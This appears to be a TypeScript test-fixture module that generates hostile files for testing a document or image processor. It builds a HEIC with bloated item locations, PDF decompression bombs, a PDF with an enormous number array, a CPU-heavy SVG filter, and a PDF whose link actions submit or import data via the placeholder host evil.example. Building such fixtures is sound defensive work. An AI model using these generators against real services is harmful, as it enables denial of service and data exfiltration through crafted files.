import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from 'pdf-lib'

/** Small files that cost much to whoever opens them without limits. */

/** Each item says that it lies in 65,535 places of no bytes. */
export function heicOfManyPlaces(items: number): Buffer {
  const head = Buffer.from([2, 0, 0, 0, 0, 0, 0, 0, 0, 0])
  head.writeUInt32BE(items, 6)
  const item = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff])
  const places = box('iloc', head, ...Array.from({ length: items }, () => item))
  return Buffer.concat([
    box('ftyp', Buffer.from('heic\0\0\0\0heicmif1')),
    box('meta', Buffer.alloc(4), box('iinf', Buffer.alloc(6)), places),
  ])
}

function box(name: string, ...parts: Buffer[]): Buffer {
  const body = Buffer.concat(parts)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(8 + body.length)
  head.write(name, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** Its catalogue is followed by megabytes of spaces, packed once or twice. */
export function pdfThatUnfolds(megabytes: number, times: 1 | 2, type = 'ObjStm'): Buffer {
  const catalogue = '1 0 << /Type /Catalog /Pages 2 0 R >> '
  let packed = Buffer.concat([Buffer.from(catalogue), Buffer.alloc(megabytes << 20, ' ')])
  for (let time = 0; time < times; time++) packed = deflateSync(packed, { level: 9 })
  const filters = Array.from({ length: times }, () => '/FlateDecode').join(' ')
  return pdfOf(
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n' +
      `4 0 obj\n<< /Type /${type} /N 1 /First 4 /Filter [${filters}] /Length ${packed.length} >>\nstream\n`,
    packed,
    '\nendstream\nendobj\n',
  )
}

/** A page like any other beside a list of numbers, each of which becomes an object in memory. */
export function pdfOfManyNumbers(numbers: number): Buffer {
  return pdfOf(
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
      '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n4 0 obj\n[',
    Buffer.alloc(2 * numbers, '1 '),
    ']\nendobj\n',
  )
}

const pdfOf = (before: string, middle: Buffer, after: string): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.5\n${before}`),
    middle,
    Buffer.from(`${after}trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`),
  ])

/** A page with things to press: to an address, to another paper, to send what was typed, to fetch what was not. */
export async function pdfWithLinks(): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  const page = document.addPage([200, 100])
  page.drawText('Juhiluba', { x: 10, y: 50, size: 12 })
  const F = PDFString.of('https://evil.example/')
  const actions = [{ S: 'URI', URI: F }, ...['SubmitForm', 'GoToR', 'ImportData'].map((S) => ({ S, F }))]
  const links = actions.map((A) =>
    document.context.register(
      document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A }),
    ),
  )
  page.node.set(PDFName.of('Annots'), document.context.obj(links))
  return document.save({ useObjectStreams: false })
}

/** A drawing made of text that keeps a processor busy for half a minute. */
export const slowSvg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="2000" height="2000"><filter id="f" x="0" y="0" width="1" height="1"><feTurbulence baseFrequency="0.01" numOctaves="50"/><feGaussianBlur stdDeviation="100"/></filter><rect width="2000" height="2000" filter="url(#f)"/></svg>',
)

/** A drawing made of text that is drawn at once. */
export const quickSvg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="160"><path d="M0 80 L400 90" stroke="black" stroke-width="5"/></svg>',
)
